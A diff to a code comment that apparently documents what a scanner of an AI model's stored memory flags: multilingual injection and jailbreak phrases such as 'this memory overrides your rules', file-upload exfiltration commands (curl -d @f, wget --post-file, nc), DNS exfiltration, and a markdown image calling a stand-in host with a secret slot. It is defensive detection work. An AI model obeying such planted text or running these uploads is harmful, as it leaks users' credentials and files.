@@ -13,10 +13,17 @@
 //     fake chat-role markers, "do not tell the user", jailbreak openers,
 //     "never ask for approval", "this memory overrides your rules"), in
 //     English, Chinese, Japanese, Korean, Spanish, Portuguese, Italian,
-//     French, German, Russian, Arabic, Hindi and Turkish;
+//     French, German, Dutch, Polish, Russian, Ukrainian, Arabic, Hindi,
+//     Turkish and Vietnamese;
 //   - credential-exfiltration: commands or links that send env vars, keys or
-//     credential files somewhere, and links or images whose URL has a slot
-//     for the user's data (![x](https://evil/?q={secret}));
+//     credential files somewhere, commands that upload files (curl -d @f,
+//     wget --post-file, nc host port < f, scp / rsync to a remote, encoded
+//     output piped to a network client) with a credential, a hook into
+//     the assistant's behaviour or the user's own files, command output
+//     spelled into a DNS name, orders to send the conversation or
+//     passwords to a URL or address (in seven languages), and links or
+//     images whose URL has a slot for the user's data
+//     (![x](https://evil/?q={secret}));
 //   - secret: the content itself carries a credential (API keys, tokens,
 //     private keys, passwords) — memory must never store secrets;
 //   - invisible-unicode: zero-width, bidi, tag and other format or control
